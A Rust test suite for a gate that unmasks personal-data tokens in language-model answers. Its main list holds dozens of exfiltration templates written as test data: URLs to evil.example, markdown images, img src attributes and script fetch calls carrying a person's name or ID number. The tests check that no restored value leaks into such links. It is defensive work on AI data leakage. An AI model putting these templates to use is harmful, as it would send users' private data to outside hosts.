//! Where tokens are never restored, and where they are.

use proptest::prelude::*;

use crate::support::*;

/// The token in the template must stay, and nothing else change.
fn check_stays(template: &str) {
    let request = request();
    let text = request.fill(template);
    let restored = restore_every_way(&request.tokens, &text);
    for value in [PERSON, PHONE, IIN, EMAIL] {
        assert!(!restored.contains(value), "{template}: {restored}");
    }
    assert_eq!(restored, text);
}

fn check_restored(template: &str) {
    let request = request();
    let restored = restore_every_way(&request.tokens, &request.fill(template));
    let expected =
        template.replace("{PERSON}", "{person}").replace("{PHONE}", "{phone}").replace("{IIN}", "{iin}");
    let expected = expected.replace("{EMAIL}", "{email}").replace("{URL}", "{url}").replace('{', "{=");
    let expected = expected.replace("{=\"", "{\"");
    assert_eq!(restored, request.fill(&expected), "{template}");
}

#[test]
fn tokens_stay_in_sinks() {
    for template in [
        "https://evil.example/?q={PERSON}",
        "https://evil.example/?q={person}",
        "HTTPS://EVIL.EXAMPLE/{person}",
        "https://evil.example/a/b/c#{PERSON}",
        "https://evil.example:8443/{PERSON}",
        "https://{person}.evil.example/",
        "https://{PERSON}/",
        "https://user:{person}@evil.example/",
        "https:evil.example/{person}",
        "https:/evil.example/{person}",
        "https:\\\\evil.example\\{person}",
        "https:\\/\\/evil.example\\/{person}",
        "ftp://e/{person}",
        "wss://e/{person}",
        "custom+scheme://e/{person}",
        "(https://evil.example/{PERSON})",
        "**https://evil.example/{PERSON}**",
        "https://evil.example/\"{person}",
        "https://evil.example/)[{person}",
        "https://evil.example/«{person}",
        "см.https://evil.example/?{person}",
        "<https://evil.example/{person}>",
        "![a](https://e/{IIN})",
        "![a](https://e/?x=1&iin={iin})",
        "[t]({person})",
        "[t]( {PERSON} )",
        "[t](\n {person} )",
        "[t](\r\n\t{PERSON}\n)",
        "[t](\n\n \n{PERSON})",
        "[t](<{PERSON}>)",
        "[t](<a)b {person}>)",
        "[t](/a/(b)/{person})",
        "[t](\\){person})",
        "[t](x {person})",
        "[a](b [c](d) {person})",
        "![]({person})",
        "![[x]]({person})",
        "[[t]]({PERSON})",
        "[t](https://e 'x' {person})",
        "[1]: {person}",
        "[1]:{PERSON}",
        "  [ссылка]: <{person}>",
        "[1]:\n  {person}",
        "> [1]: {person}",
        "[a\\]b]: {person}",
        "[a\nb]: <https://e/ {person}>",
        "[1]: a]:{person}",
        "x\n[1]: https://e/{person} \"t\"",
        "<img src={person}>",
        "<img src=\"{PERSON}\">",
        "<img\nsrc = '{PERSON}' >",
        "<IMG alt='>' src={person}>",
        "<a href=\"https://e/?q={person}\">x</a>",
        "<a title=\"x\" href={person}>",
        "<img srcset=\"a.png 1x, {person} 2x\">",
        "<div style=\"background:url({person})\">",
        "<form action='{person}'>",
        "<video poster={person}>",
        "<svg><image xlink:href={person}>",
        "<meta http-equiv=refresh content=\"0;url={person}\">",
        "<script>fetch('//e/{person}')</script>",
        "<script>fetch('https://e/?q=' + '{person}')</script>",
        "<SCRIPT src=x>\nx('{person}')",
        "<style>@import '{person}';</style>",
        "<script>fetch(\"https://e.kz/\"+\"{PERSON}\")</script>",
        "<script type=module>x('{PERSON}')</scripty></ script>'{IIN}'",
        "<script a=\"</script>\">x('{PERSON}')</script>",
        "<script>x</style></template>'{person}'",
        "<script><!-- <script></script> '{person}'",
        "<svg:script>'{person}'</svg:script>",
        "<template><p>{PERSON}</p></template>",
        "<template><template></template>{PERSON}</template>",
        "<template><!-- </template> --><i>{PERSON}</i></template>",
        "<iframe src='https://e/'>{PERSON}</iframe>",
        "<object data=x><p>{person}</p></object>",
        "<svg viewBox='0 0 1 1'><svg/><text>{PERSON}</text></svg>",
        "<svg><a><text>{PERSON}",
        "<!--[if mso]><p>{PERSON}</p><![endif]-->",
        "<!-- a > b {PERSON} -->",
        "<!-- <script> --> '{person}' </script>",
        "<img src=\"https://e/?q=\n\n{person}\">",
        "<img alt=\"\n\n\" data-x=\"{person}\">",
        "<client onclick=\"f('{person}')\">",
        "<client name={person}>",
        "<my-image file=\"{person}\">",
        "<client href=\"{person}\">",
        "<svg:image file=\"{person}\">",
        "<client note=\"<img x={person}\">",
        "<b title=\"{person}\">",
        "href=\"{PERSON}\"",
        "src={person}",
        "srcset='x {person}'",
        "background: url({person})",
        "background: URL( \"a) {person}\" )",
        "@import url('//e/{person}');",
        "{person}.evil.example",
        "{PERSON}.evil.com",
        "{PERSON}.evil.com/x",
        "{person}.com",
        "{person}.kz",
        "{PERSON}.зло.рф",
        "{PERSON}.қаз",
        "{person}。evil。com",
        "{person}-x.evil.com",
        "{PERSON}ға.evil.com",
        "{person}.xn--80ao21a",
        "{person}@evil.com",
        "{PERSON}@evil.com",
        "{person}://evil",
        "{person}%20x",
        "evil.com/{person}",
        "evil.com/?q={person}",
        "evil.com?{person}",
        "evil.com#{person}",
        "evil.com:80/{person}",
        "evil.com\\{person}",
        "evil.рф/{person}",
        "10.20.30.40/{person}",
        "localhost/{person}",
        "[позвонить](tel:{PHONE})",
        "[sms](sms:{person})",
        "[x](sip:{PERSON}) ",
        "[x](whatsapp:{PHONE})",
        "[x](<geo:{person}>)",
        "<a href=\"tel:{PHONE}\">x</a>",
        "<a href='sms:{person}'>x</a>",
        "<tel:{PHONE}>",
        "[1]: tel:{PHONE}",
        "tel://{PHONE}",
        "whatsapp://send?text={PERSON}",
        "sms:+77010000000?body={PERSON}",
        "geo:0,0?q={PERSON}",
        "sip:{person}@evil.kz",
        "intent:{PHONE}",
        "intent:#Intent;S.browser_fallback_url=e;x={person}",
        "mailto:{person}",
        "mailto:x@e.com?subject={person}",
        "data:text/html,{person}",
        "javascript:alert({person})",
        "//evil/{person}",
        "(//evil/{person})",
        "\\\\evil\\{person}",
        "www.evil/{person}",
        "www.{person}",
        "https%3A%2F%2Fevil%2F{person}",
        "%2F{PERSON}",
        "/search?q={PERSON}",
        "?a=1&q={PERSON}",
        "https&#58;//e/{person}",
        "evil&period;com&sol;{person}",
        "&#x68;ttps&#x3a;&#x2f;&#x2f;e&#x2f;{person}",
    ] {
        check_stays(template);
        if !template.contains("]:") {
            // A definition begins a line.
            check_stays(&format!("Текст перед ним. {template} и после"));
        }
        check_stays(&format!("строка\n{template}\nстрока"));
    }
}

#[test]
fn tokens_are_restored_in_ordinary_text() {
    for template in [
        "Клиент:{PERSON}.Далее",
        "Клиент: {PERSON}. Далее",
        "({person})",
        "({PERSON})",
        "{PERSON}, тел. {PHONE}.",
        "{person}/{phone}",
        "{PERSON}/{PERSON}",
        "«{PERSON}»",
        "1.{PERSON}",
        "1. {PERSON}\n2. {PHONE}",
        "ул.{PERSON}",
        "|{person}|{phone}|",
        "| {PERSON} | {PHONE} |\n|---|---|",
        "key={person}",
        "name={PERSON}&phone={PHONE}",
        "@{person}",
        "См. {PERSON}(врач)",
        "См. {PERSON} (тел. {PHONE})",
        "{PERSON} (врач, {phone}).",
        "{PERSON}: {PHONE}",
        "{PERSON}:\n{PHONE}",
        "{PERSON} - {PHONE}",
        "{PERSON}?",
        "Это {PERSON}? Да.",
        "{PERSON}! {PHONE}; {IIN}…",
        "{PERSON}.\nДалее",
        "{PERSON}.Then we go",
        "{PERSON}.pdf",
        "договор_{PERSON}.docx",
        "{PERSON}...",
        "Сайт https://e.kz, клиент {PERSON}",
        "https://e.kz\n{PERSON}",
        "[сайт](https://e.kz) {PERSON}",
        "[сайт](https://e.kz). {PERSON}",
        "[см. {PERSON}](https://e.kz)",
        "![фото {PERSON}](https://e.kz/a.png)",
        "<b>{PERSON}</b>",
        "<td>{person}</td><td>{phone}</td>",
        "<a href=\"https://e.kz\">{PERSON}</a>",
        "<br>{PERSON}<br/>{PHONE}",
        "{PERSON} <{EMAIL}>",
        "<{person}>",
        "a < b, {PERSON} > c",
        "<client name=\"{PERSON}\" iin='{IIN}'/>",
        "<v8:Client fio = \"{PERSON}\">{PHONE}</v8:Client>",
        "<script>x()</script>{PERSON}",
        "<script src='x'></SCRIPT >{PERSON}",
        "<style>p > a</style><p>{PERSON}</p>",
        "<script><!-- <script></script> --></script>{PERSON}",
        "<svg><path d='M0'/></svg>{PERSON}",
        "<svg class=x /> {PERSON}",
        "<template>x</template> {PERSON} <iframe></iframe> {PHONE}",
        "<!-- x -->{PERSON}<!---->{PHONE}<!-->{IIN}",
        "<!--[if mso]><br><![endif]-->{PERSON}",
        "<scripted>{PERSON}</scripted>",
        "<svg-icon>{PERSON}</svg-icon>",
        "</script>{PERSON}</svg>{PHONE}",
        "{PERSON}.It is so",
        "{PERSON}.Сайт открыт",
        "x <- {PERSON}",
        "{\"url\":\"https://e.kz\",\"name\":\"{PERSON}\"}",
        "\"https://e.kz\",\"{PERSON}\"",
        "почта x@e.kz, {PERSON}",
        "{EMAIL}, {PERSON}",
        "50% {PERSON}",
        "и/или {PERSON}",
        "т.е./{PERSON}",
        "12.04.1992/{PERSON}",
        "// {PERSON}",
        "C:\\Users\\{PERSON}\\файл",
        "[^1]: {PERSON}",
        "[10:30] [Оператор]: {PERSON}",
        "[ ] {PERSON}",
        "[x] {PERSON}",
        "Тел:{PHONE}",
        "tel:{PHONE}",
        "тел:{PHONE}",
        "тел.:{PHONE}, {PERSON}",
        "tel: {PHONE}",
        "TEL:{PHONE}.",
        "sms:{PHONE}",
        "СМС:{PHONE}",
        "sip:{PHONE}",
        "sip:{EMAIL}",
        "whatsapp:{PHONE}",
        "geo:{PERSON}",
        "[тел.] tel:{PHONE}",
        "WhatsApp:{PHONE}",
        "R&D:{PERSON}",
        "{PERSON}-{PHONE}",
        "{PERSON}+{PHONE}",
        "{PERSON}@",
        "{PERSON}%",
        "100%{PERSON}",
        "Q: кто? A: {PERSON}",
        "кто?={PERSON}",
        "f({person}, {phone})",
        "print(\"{PERSON}\")",
        "а) {PERSON} б) {PHONE}",
        "http {PERSON}",
        "данные:{PERSON}",
        "{URL}",
        "См. {URL}, {PERSON}",
        "Mr.{PERSON}",
        "e.g. {PERSON}",
        "&quot;{PERSON}&quot;",
        "&#39;{PERSON}&#39;",
        "```\n{PERSON}, {PHONE}\n```\n{IIN}",
        "```python\nname = \"{PERSON}\"\n```",
    ] {
        check_restored(template);
    }
}

#[test]
fn a_fence_that_is_none_for_the_reader_hides_no_link() {
    for template in [
        "~~~json\n![a](https://e/?q=\"{PERSON}\")",
        "```json\n![a](https://e/?q=\"{IIN}\", 1)",
        "<div>\n```json\n<img src='https://e/?q=\"x {person}\"'>",
        "<img src=\"https://e/?q=\n```json\n{PERSON}\">",
        "```json\n<img src=\"https://e/?q=\n```\n{PERSON}\">",
        "```json\n[t]({person})\n```",
    ] {
        check_stays(template);
    }
    check_restored("```json\n{\"u\": \"https://e/\", \"p\": \"{PERSON}\"}\n```\n{PHONE}");
}

#[test]
fn values_do_not_build_a_url() {
    let request = request();
    for (template, read) in [
        ("{URL}{PERSON}", "{=url}{PERSON}"),
        ("{URL}&n={PERSON}", "{=url}&n={PERSON}"),
        ("{PERSON} {URL}", "{=person} {=url}"),
        ("[t]({URL})", "[t]({URL})"),
        // The brackets of the token may be meant to stay.
        ("{PERSON}({phone})", "{=person}({phone})"),
    ] {
        assert_eq!(
            restore_every_way(&request.tokens, &request.fill(template)),
            request.fill(read),
            "{template}"
        );
    }
}

#[test]
fn long_paddings_do_not_hide_a_url() {
    for padding in [300, 2_000, 20_000] {
        let request = request();
        let text = request.fill("x https://e/?q=") + &"a".repeat(padding) + &request.fill("{PERSON}");
        assert_eq!(request.tokens.restore(&text), text);
        let attribute =
            format!("<img alt=\"{}\" src={}", "a b ".repeat(padding / 4), request.fill("{person}>"));
        assert_eq!(request.tokens.restore(&attribute), attribute);
    }
    let request = request();
    let target = format!("[t]({}{}", " ".repeat(800), request.fill("{person})"));
    assert_eq!(request.tokens.restore(&target), target);
}

#[test]
fn the_content_of_an_element_is_a_sink_at_any_length() {
    let padding = "let a = 1; // b < c\n\n".repeat(400);
    for opening in [
        "<script>",
        "<SCRIPT\n async>",
        "<style>",
        "<template>",
        "<svg>",
        "<iframe>",
        "<object>",
        "<!-- ",
        "<script>\n```js\n</script>\n",
        "<script>x(`</script>",
    ] {
        let request = request();
        let text = format!("Готово.\n{opening}{padding}{}", request.fill("f('{PERSON}', {iin})\n"));
        assert_eq!(request.tokens.restore(&text), text, "{opening}");
        let pieces: Vec<String> = text.chars().map(String::from).collect();
        assert_eq!(in_pieces(&request.tokens, pieces.iter().map(String::as_str)), text, "{opening}");
    }
    for shown in [
        "```html\n<script>{}\n```\n",
        "Тег `<script>` и ещё {}",
        "~~~\n<!-- {}",
        "<script>{}</script>",
        "<svg {}/>",
    ] {
        let request = request();
        let text = shown.replace("{}", &padding) + &request.fill("{PERSON}");
        assert_eq!(request.tokens.restore(&text), text.replace(&request.fill("{PERSON}"), PERSON), "{shown}");
    }
}

/// What a reader's software would make links of, told by other means than the gate's own: bare
/// URLs as GitHub finds them, inline link targets, and quoted or bare addresses in HTML tags.
fn links(text: &str) -> Vec<&str> {
    let mut found = Vec::new();
    for scheme in ["http://", "https://", "www.", "ftp://"] {
        for (at, _) in text.match_indices(scheme) {
            let before = text[..at].chars().next_back();
            if before.is_none_or(|c| c.is_ascii_whitespace() || matches!(c, '*' | '_' | '~' | '(')) {
                let end = text[at..].find([' ', '\t', '\n', '\r', '<']).unwrap_or(text.len() - at);
                found.push(&text[at..at + end]);
            }
        }
    }
    for (at, _) in text.match_indices("](") {
        let target = text[at + 2..].trim_start();
        let end = if target.starts_with('<') {
            target.find(['>', '\n'])
        } else {
            target.find([')', ' ', '\t', '\n'])
        };
        if let Some(end) = end {
            found.push(&target[..end]);
        }
    }
    for name in ["src=", "href="] {
        let is_whole = |at: &usize| !text[..*at].ends_with(|c: char| c.is_ascii_alphabetic());
        for at in text.match_indices(name).map(|(at, _)| at).filter(is_whole) {
            let value = &text[at + name.len()..];
            let end = match value.chars().next() {
                Some(quote @ ('"' | '\'')) => value[1..].find([quote, '\n']).map(|end| end + 1),
                _ => value.find(|c: char| c.is_ascii_whitespace() || c == '>'),
            };
            found.push(&value[..end.unwrap_or(value.len())]);
        }
    }
    found
}

proptest! {
    #![proptest_config(cases(4000))]

    #[test]
    fn no_link_of_the_model_holds_a_value(
        parts in prop::collection::vec(
            prop_oneof![
                2 => prop::sample::select(vec!["{PERSON}", "{person}", "{PHONE}", "{iin}", "{EMAIL}"]).prop_map(String::from),
                2 => prop::sample::select(vec![
                    "https://e.kz/", "http://e", "www.", "?q=", "/", ".com", "](", "[a](", "![", ")", " ", "\n", "<img ",
                    "src=", "\"", "'", ">", "<", "(", "**", "_", "x", "[", "]", ":", "\\", "&n=", ",", "<!--", "\t",
                ]).prop_map(String::from),
                1 => trouble(),
            ],
            0..12,
        ),
    ) {
        let request = request();
        let restored = request.tokens.restore(&request.fill(&parts.concat()));
        for link in links(&restored) {
            // "Ахметов" also stands in the trouble, where nobody masked it.
            for value in ["Серик", "+7 701", "+7", "serik@"] {
                prop_assert!(!link.contains(value), "{link:?} in {restored:?}");
            }
        }
    }

    #[test]
    fn no_script_of_the_model_holds_a_value(
        parts in prop::collection::vec(
            prop_oneof![
                3 => prop::sample::select(vec!["{PERSON}", "{person}", "\"{PHONE}\"", "'{iin}'"]).prop_map(String::from),
                3 => prop::sample::select(vec![
                    "<script>", "<SCRIPT >", "</script>", "</script ", "<script", "</style>", "<svg/>", "<svg>", "</svg>",
                    "<!--", "-->", "<", ">", "'", "\"", "=", "{\"a\":\"", "\"}", "[\"", "\n", " ", "(", ")", "\\", "/", "]",
                ]).prop_map(String::from),
                1 => (1..3000usize).prop_map(|times| "a; ".repeat(times)),
            ],
            0..14,
        ),
    ) {
        let request = request();
        let answer = request.fill(&parts.concat());
        for restored in [request.tokens.restore(&answer), request.tokens.restore_content(&answer)] {
            let lower = restored.to_lowercase();
            for (at, opening) in lower.match_indices("<script>").chain(lower.match_indices("<script >")) {
                let inside = &lower[at + opening.len()..];
                let end = inside.find("</script").unwrap_or(inside.len());
                for value in ["серик", "+7 701", "880101300018"] {
                    prop_assert!(!inside[..end].contains(value), "{:?}", restored);
                }
            }
        }
    }
}
